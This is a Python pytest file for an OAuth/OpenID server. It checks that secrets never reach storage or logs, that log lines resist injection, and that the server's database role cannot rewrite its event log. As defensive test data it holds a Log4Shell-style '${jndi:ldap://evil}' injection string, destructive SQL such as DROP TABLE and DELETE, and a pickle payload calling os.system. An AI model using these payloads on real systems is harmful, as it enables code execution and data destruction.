"""What nobody may find in the database or in a log line, and what a hostile event can do (A226, A227, A230, A232)."""

import base64
import secrets
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote

import asyncpg
import psycopg2
import pytest

from authrim.people.accounts import create_account
from authrim.people.new_account import AccountRequest, AccountStore
from authrim.people.part import PEOPLE
from authrim.store.contract import Append, NewEvent, Store, StreamAppend
from authrim.store.postgres.application_role import grant_application_role
from authrim.store.postgres.store import PostgresStore
from domain.errors import Refusal
from domain.stream import DEFAULT_TENANT
from tests.postgres_cluster import Cluster
from tests.support.assertion import assertion_client, assertion_form, claims_for, new_key, signed
from tests.support.browser import Browser, authenticated_post, redeem
from tests.support.running import MASTER_KEY, KnownClient, RunningServer, running_server

OFFLINE = {"scope": "openid profile email phone address offline_access", "prompt": "consent"}

only_sqlite = pytest.mark.parametrize("store_place", ["sqlite"], indirect=True)


def canary(name: str) -> str:
    """A value that stands nowhere else."""
    return f"{name}-{secrets.token_hex(12)}"


def spellings(value: str) -> Iterator[bytes]:
    """The ways in which a text could have been written down."""
    raw = value.encode()
    yield raw
    yield raw.hex().encode()
    yield quote(value, safe="").encode()
    for offset in range(3):  # as a part of a longer text in base64
        encoded = base64.b64encode(b"\0" * offset + raw)
        yield encoded[4 if offset else 0 : len(encoded) - 4]
    if len(value) > 60:
        yield raw[-40:]  # a token that was cut off in front
        yield raw[:40] if value.count(".") == 0 else value.rpartition(".")[2].encode()[:40]


def everything_stored(place: Path | str) -> bytes:
    """Every byte of a SQLite database and its write-ahead log, or every row of every table of PostgreSQL."""
    if isinstance(place, Path):
        return b"".join(file.read_bytes() for file in place.parent.glob(f"{place.name}*"))
    parts: list[bytes] = []
    with closing(psycopg2.connect(place)) as connection, connection.cursor() as cursor:
        cursor.execute(
            "SELECT 'authrim.' || quote_ident(tablename) FROM pg_tables WHERE schemaname = 'authrim'"
        )
        for (table,) in cursor.fetchall():
            cursor.execute(f"SELECT * FROM {table}")
            for row in cursor:
                parts += [
                    bytes(value) if isinstance(value, memoryview) else str(value).encode() for value in row
                ]
    return b"\n".join(parts)


async def sign_up(server: RunningServer) -> dict[str, str]:
    """An account all of whose data are canaries; the server's person from now on."""
    canaries = {name: canary(name) for name in ("login", "password", "name", "street", "phone")}
    claims = {
        "name": canaries["name"],
        "email": f"{canaries['login']}@example.com",
        "phone_number": canaries["phone"],
        "address": {"street_address": canaries["street"]},
    }
    core = server.core
    created = await create_account(
        AccountStore(core.store, core.private, core.master, server.parts[PEOPLE].passwords, DEFAULT_TENANT),
        AccountRequest(canaries["login"], canaries["password"], claims),
    )
    assert not isinstance(created, Refusal)
    server.login, server.password, server.subject = canaries["login"], canaries["password"], created.subject
    return canaries


async def the_whole_story(server: RunningServer, browser: Browser, client: KnownClient) -> dict[str, str]:
    """A code flow with pages and everything after it; every value that must not be written down."""
    private = {"state": canary("state"), "login_hint": canary("hint")}
    wanted = canary("wanted")
    claims = f'{{"userinfo":{{"name":{{"value":"{wanted}"}}}}}}'
    shown, verifier = await browser.authorize(client, **OFFLINE, **private, claims=claims)
    wrong = await browser.sign_in(shown, password=(wrong_password := canary("wrong-password")))
    request_cookies = dict(browser.cookies)
    shown = await browser.through_pages(wrong)
    code = shown.parameters["code"]
    _, tokens = await redeem(server, client, code, verifier)
    _, refreshed = await authenticated_post(
        server, client, "/token", {"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]}
    )
    bearer = {"Authorization": f"Bearer {refreshed['access_token']}"}
    async with server.http.get(server.url("/userinfo"), headers=bearer) as answer:
        assert (await answer.json())["email"].startswith(server.login)
    for token in (tokens["access_token"], refreshed["refresh_token"]):
        await server.post("/introspect", {"token": token}, client.basic)
        await server.post("/revoke", {"token": token}, client.basic)
    given = {f"first {name}": tokens[name] for name in ("access_token", "refresh_token", "id_token")}
    given |= {f"second {name}": refreshed[name] for name in ("access_token", "refresh_token", "id_token")}
    cookies = {
        f"cookie {name}": value.split(".")[-1] for name, value in (request_cookies | browser.cookies).items()
    }
    return {
        **private,
        **given,
        **cookies,
        "wanted": wanted,
        "verifier": verifier,
        "code": code,
        "wrong": wrong_password,
    }


async def the_refused_story(server: RunningServer, browser: Browser, client: KnownClient) -> dict[str, str]:
    """What is refused, page after page and call after call; every value that was refused."""
    presented = {
        name: canary(name)
        for name in ("code", "token", "secret", "verifier", "state", "scope", "uri", "query")
    }
    shown, _ = await browser.authorize(client)
    shown = await browser.through_pages(shown)
    code = shown.parameters["code"]
    await redeem(server, client, code, presented["verifier"] + "x" * 20)
    await redeem(server, client, code, None)
    await redeem(server, client, presented["code"], None)
    wrong = {"client_id": client.client_id, "client_secret": presented["secret"]}
    for path in ("/token", "/introspect", "/revoke"):
        await server.post(path, {"grant_type": "refresh_token", "refresh_token": presented["token"], **wrong})
        await server.post(path, {"token": presented["token"]}, client.basic)
        await server.post(f"{path}?token={presented['query']}", {"token": presented["token"]}, client.basic)
    await server.post(
        "/token", {"grant_type": "refresh_token", "refresh_token": presented["token"]}, client.basic
    )
    for address in (f"/userinfo?access_token={presented['query']}", f"/nowhere/{presented['query']}"):
        async with server.http.get(server.url(address)) as answer:
            assert answer.status in {400, 404}
    async with server.http.get(
        server.url("/userinfo"), headers={"Authorization": f"Bearer {presented['token']}"}
    ) as answer:
        assert answer.status == 401
    await browser.authorize(
        client, redirect_uri=f"https://evil.example/{presented['uri']}", state=presented["state"]
    )
    await browser.authorize(client, scope=f"openid {presented['scope']}", state=presented["state"])
    await browser.authorize(client, id_token_hint=presented["token"], state=presented["state"])
    return {**presented, "replayed code": code}


async def test_no_secret_is_written_down(
    server: RunningServer, browser: Browser, store_place: Path | str, capfd: pytest.CaptureFixture[str]
) -> None:
    """A227: after flows of every kind no token, code, secret, password or personal datum is in the database
    or on the output, in any spelling; and the scan does find what is known to be there."""
    person = await sign_up(server)
    known = {"master key": MASTER_KEY, **person}
    for token_format in ("jwt", "opaque"):
        client = await server.client(token_format, kind="web", access_token_format=token_format)
        story = await the_whole_story(server, browser, client)
        refused = await the_refused_story(server, browser, client)
        known |= {f"{token_format} {name}": value for name, value in (story | refused).items()}
        known |= {f"{token_format} client secret": client.secret or ""}
    key = new_key()
    service = await assertion_client(server, key)
    assertion = signed(key, claims_for(server, service, jti=canary("jti")))
    assert (await server.post("/token", assertion_form(assertion)))[0] == 200
    known["assertion"] = assertion
    stored, written = everything_stored(store_place), "".join(capfd.readouterr()).encode()
    assert service.client_id.encode() in stored
    assert server.subject.encode() in stored
    assert b"route=introspect" in written or b'"route":"introspect"' in written
    assert all(len(value) >= 16 for value in known.values())
    found = {
        (name, where)
        for name, value in known.items()
        for where, text in (("database", stored), ("output", written))
        if any(spelling in text for spelling in spellings(value))
    }
    assert not found


@only_sqlite
async def test_no_text_from_outside_steers_a_log_line(
    server: RunningServer, browser: Browser, capfd: pytest.CaptureFixture[str]
) -> None:
    """A226: line breaks, escape sequences and bidirectional marks of a request reach no line as they are."""
    web = await server.client("web")
    hostile = 'x\r\n{"level":"error"}\x1b[31m\u202e${jndi:ldap://evil}'
    for name in ("client_id", "scope", "state", "login_hint", "prompt", "display"):
        await browser.authorize(web, **{name: hostile})
    headers = {"User-Agent": "\u202e", "traceparent": "00-\u202e", "Accept-Language": "\u202e"}
    await server.post("/token", {"grant_type": hostile, "client_id": hostile, "token": hostile}, headers)
    await server.post("/revoke", {"token": hostile}, web.basic)
    written = "".join(capfd.readouterr())
    assert "authorize" in written
    for mark in ("\u202e", "\x1b[31m\u202e", "jndi", '{"level":"error"}'):
        assert mark not in written


FORGERIES = (
    "INSERT INTO authrim.events VALUES (1, 'default:grant:x', 1, 't', '', '', 0, '')",
    "UPDATE authrim.events SET payload = ''",
    "DELETE FROM authrim.events",
    "TRUNCATE authrim.events",
    "UPDATE authrim.ledger SET chain_hash = ''",
    "UPDATE authrim.head SET position = 0",
    "UPDATE authrim.tokens SET revoked_at = NULL",
    "UPDATE authrim.clients SET status = 'active'",
    "DROP TABLE authrim.events CASCADE",
    "ALTER TABLE authrim.events DISABLE TRIGGER ALL",
    "SET session_replication_role = replica",
)


async def test_the_servers_own_role_cannot_rewrite_history(cluster: Cluster, postgres_dsn: str) -> None:
    """A230: a server runs whole flows as a role that can neither change the log nor forge a row in it."""
    role = f"application_{secrets.token_hex(4)}"
    cluster.execute(f"CREATE ROLE {role} LOGIN")
    await grant_application_role(postgres_dsn, role)
    dsn = cluster.dsn(postgres_dsn.rpartition("/")[2], role)
    store = PostgresStore(dsn)
    await store.open()
    async with running_server(store) as server:
        web = await server.client("web")
        tokens = await Browser(server).code_flow(web, **OFFLINE)
        status, _ = await server.post("/revoke", {"token": tokens["refresh_token"]}, web.basic)
        assert status == 200
    await store.close()
    connection = await asyncpg.connect(dsn)
    try:
        for statement in FORGERIES:
            with pytest.raises(asyncpg.InsufficientPrivilegeError):
                await connection.execute(statement)
    finally:
        await connection.close()


HOSTILE: dict[str, NewEvent] = {
    "unknown type": NewEvent("grant.from_the_future.v9", b'{"type":"grant.from_the_future.v9"}'),
    "not JSON": NewEvent("grant.revoked.v1", b"\x80\x04\x95cos\nsystem\n(S'true'\ntR."),
    "another shape": NewEvent("grant.revoked.v1", b'{"type":"grant.revoked.v1","revoked_at":"never"}'),
    "deep": NewEvent("grant.revoked.v1", b'{"type":"grant.revoked.v1","x":' + b"[" * 100_000),
    "another kind": NewEvent(
        "client.disabled.v1", b'{"type":"client.disabled.v1","reason":"x","disabled_at":1}'
    ),
}


async def forge(store: Store, stream: str, event: NewEvent, *, configuration: bool = False) -> None:
    """Somebody who can append puts this into a stream."""
    read = await store.read_stream(stream)
    metadata = b'{"tenant":"default","actor":"system"}'
    await store.append(
        Append((StreamAppend(stream, read.version, (event,)),), metadata, configuration=configuration)
    )


@pytest.mark.parametrize("event", HOSTILE.values(), ids=HOSTILE)
async def test_an_unreadable_event_stops_its_own_grant_only(
    server: RunningServer, browser: Browser, event: NewEvent, capfd: pytest.CaptureFixture[str]
) -> None:
    """A232, F19: requests on that grant are answered 503 without detail, all others go on as before."""
    web = await server.client("web")
    harmed = await browser.code_flow(web, **OFFLINE)
    other = await browser.code_flow(web, **OFFLINE)
    grant_id = harmed["refresh_token"].split(".")[1]
    await forge(server.core.store, f"default:grant:{grant_id}", event)

    async def refresh(tokens: dict[str, Any]) -> tuple[int, dict[str, Any]]:
        form = {"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]}
        return await authenticated_post(server, web, "/token", form)

    failed = [
        await refresh(harmed),
        await server.post("/introspect", {"token": harmed["refresh_token"]}, web.basic),
        await server.post("/revoke", {"token": harmed["refresh_token"]}, web.basic),
        await server.post("/revoke", {"token": harmed["access_token"]}, web.basic),
    ]
    for status, answer in failed:
        assert (status, answer["error"]) == (503, "temporarily_unavailable")
        assert set(answer) <= {"error", "error_description", "error_uri"}
        assert event.type not in answer["error_description"]
    assert "request.cannot_be_decided" in capfd.readouterr().out
    assert (await refresh(other))[0] == 200
    assert "code" in (await browser.authorize(web, prompt="none"))[0].parameters


@only_sqlite
async def test_an_unreadable_event_of_a_key_retires_that_key_only(
    server: RunningServer, browser: Browser
) -> None:
    """A232: a key whose stream cannot be read neither signs nor verifies; keys of other algorithms go on."""
    web = await server.client("web")
    by_other = await server.client(
        "rsa", kind="web", id_token_signed_response_alg="RS256", access_token_signing_alg="RS256"
    )
    await browser.code_flow(web)
    core = server.core
    kid = core.key_ring.signer(DEFAULT_TENANT, "ES256", core.now()).kid
    unknown = NewEvent("key.from_the_future.v9", b"{}")
    await forge(core.store, f"default:key:{kid}", unknown, configuration=True)
    await core.configuration.catch_up()
    shown, verifier = await browser.authorize(web)
    shown = await browser.through_pages(shown)
    status, answer = await redeem(server, web, shown.parameters["code"], verifier)
    assert (status, answer["error"]) == (503, "temporarily_unavailable")
    assert "id_token" in await browser.code_flow(by_other)
    async with server.http.get(server.url("/jwks")) as published:
        assert kid not in await published.text()
